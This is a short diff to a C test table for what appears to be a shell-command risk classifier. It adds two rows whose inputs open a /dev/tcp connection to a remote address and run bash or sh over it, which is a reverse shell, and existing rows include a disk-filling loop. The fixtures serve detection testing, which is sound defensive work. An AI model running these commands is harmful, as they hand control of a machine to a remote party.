@@ -76,6 +76,8 @@ static const struct row redirections_rows[] = {
 	{ "while true; do echo y; done >> /tmp/fill", "e",
 	  " appends:/tmp/fill ;; true {loop,test} ;; echo y {loop,endless}" },
 	{ "echo \"$K\" > >(sh)", "e", "sh ;; echo ${K}" },
+	{ "exec {fd}<>/dev/tcp/203.0.113.1/80; bash <&$fd", "c", "exec ;; bash code?[]<network>" },
+	{ "exec 196<>/dev/tcp/203.0.113.1/80; sh <&196", "c", "exec ;; sh code?[]<network>" },
 };
 
 static const struct row loops_rows[] = {
